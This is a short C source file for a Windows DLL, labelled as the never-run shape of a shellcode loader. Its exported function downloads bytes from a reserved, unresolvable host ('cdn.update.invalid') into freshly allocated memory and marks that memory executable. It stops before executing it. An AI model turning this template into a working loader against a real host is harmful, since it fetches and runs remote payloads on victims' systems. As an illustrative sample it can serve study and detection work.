/* Shape of a shellcode loader (never run): fetch bytes over WinINet into
   freshly allocated memory. The host is reserved and cannot resolve. */
#include <windows.h>
#include <wininet.h>
__declspec(dllexport) int fetch(void) {
  HINTERNET n = InternetOpenA("m", 0, 0, 0, 0);
  HINTERNET u = InternetOpenUrlA(n, "https://cdn.update.invalid/p.bin", 0, 0, 0, 0);
  BYTE *p = VirtualAlloc(0, 4096, MEM_COMMIT, PAGE_READWRITE);
  DWORD got = 0, old;
  InternetReadFile(u, p, 4096, &got);
  VirtualProtect(p, 4096, PAGE_EXECUTE_READ, &old);
  return (int)got;
}
BOOL WINAPI DllMain(HINSTANCE h, DWORD r, LPVOID v) { return TRUE; }
